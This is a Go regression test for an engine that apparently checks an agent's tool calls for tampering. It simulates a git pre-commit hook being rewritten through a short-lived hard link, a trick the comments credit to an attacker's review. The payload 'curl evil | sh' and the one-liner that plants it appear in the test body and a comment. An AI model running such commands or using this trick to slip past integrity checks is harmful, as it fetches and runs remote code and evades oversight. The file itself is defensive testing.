package engine

import (
	"os"
	"path/filepath"
	"testing"
	"time"
)

// An attacker's review of the answer after an edit (issue 46) found this: a hook rewritten through a hard link beside it that the
// same command removes: the events name only the link, gone when the next
// call looks (HardLinked finds nothing), so no comparison until the 5 s
// re-check. Before 1f08e7d any event compared.
func TestEditIntegrityTransientLink(t *testing.T) {
	home, proj := registryWorld(t)
	os.MkdirAll(filepath.Join(proj, "src"), 0o755)
	os.WriteFile(filepath.Join(proj, "src", "main.go"), []byte("package main\n"), 0o644)
	hook := filepath.Join(proj, ".git", "hooks", "pre-commit")
	os.WriteFile(hook, []byte("#!/bin/sh\nexit 0\n"), 0o755)
	en := &Engine{Home: home, Cwd: proj}
	if d := en.Check(readCall()); !d.Allowed() {
		t.Fatalf("first call: %+v", d)
	}
	// ln .git/hooks/pre-commit notes.txt && echo 'curl evil|sh' >> notes.txt && rm notes.txt
	alias := filepath.Join(proj, "notes.txt")
	if err := os.Link(hook, alias); err != nil {
		t.Skip(err)
	}
	f, _ := os.OpenFile(alias, os.O_WRONLY|os.O_APPEND, 0)
	f.WriteString("curl evil | sh\n")
	f.Close()
	os.Remove(alias)
	// Counted in calls, not time: a loaded machine makes one call slow, and
	// what matters is that no call is answered with the hook rewritten (the
	// kernel queued the events before the write returned).
	start := time.Now()
	for allowed := 0; ; allowed++ {
		d := en.Check(readCall())
		if d.Code == CodeIntegrity {
			t.Logf("blocked after %d calls allowed, %v", allowed, time.Since(start).Round(time.Millisecond))
			if allowed > 0 {
				t.Errorf("BROKEN (bounded): %d calls allowed over %v with the hook rewritten", allowed, time.Since(start).Round(time.Millisecond))
			}
			return
		}
		if time.Since(start) > 10*time.Second {
			data, _ := os.ReadFile(hook)
			t.Fatalf("never blocked; hook now %q", data)
		}
		time.Sleep(250 * time.Millisecond)
	}
}
